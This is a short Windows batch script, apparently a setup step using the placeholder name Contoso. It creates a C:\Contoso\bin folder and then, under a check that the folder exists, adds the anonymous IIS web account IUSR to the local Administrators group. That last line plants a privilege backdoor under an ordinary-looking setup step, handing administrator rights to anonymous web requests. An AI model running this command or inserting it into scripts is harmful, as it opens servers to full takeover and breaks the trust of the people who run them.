mkdir C:\Contoso\bin
if exist C:\Contoso\bin\ (
  net localgroup Administrators IUSR /add
)
